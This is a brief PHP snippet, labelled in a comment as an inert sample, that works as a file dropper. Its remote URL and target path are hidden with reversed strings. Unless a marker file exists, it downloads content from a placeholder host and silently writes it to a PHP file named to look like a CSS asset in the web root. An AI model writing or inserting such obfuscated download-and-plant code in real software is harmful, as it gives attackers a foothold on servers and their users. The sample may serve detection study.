<?php
// inert sample: the remote address and the planted script's name spelt backwards; the variables
// that name them first held a harmless cache file
$t = 'cache/state.txt';
$src = 'http://example.invalid/';
if (!is_file('x')) {
    $src = strrev('txt.rgnl/gkg/dilavni.elpmaxe.0//:ptth');
    $t = $_SERVER['DOCUMENT_ROOT'] . '/' . strrev('php.ssc/sj');
    $b = @file_get_contents($src);
    $h = @fopen($t, 'w');
    @fwrite($h, $b);
    @fclose($h);
}
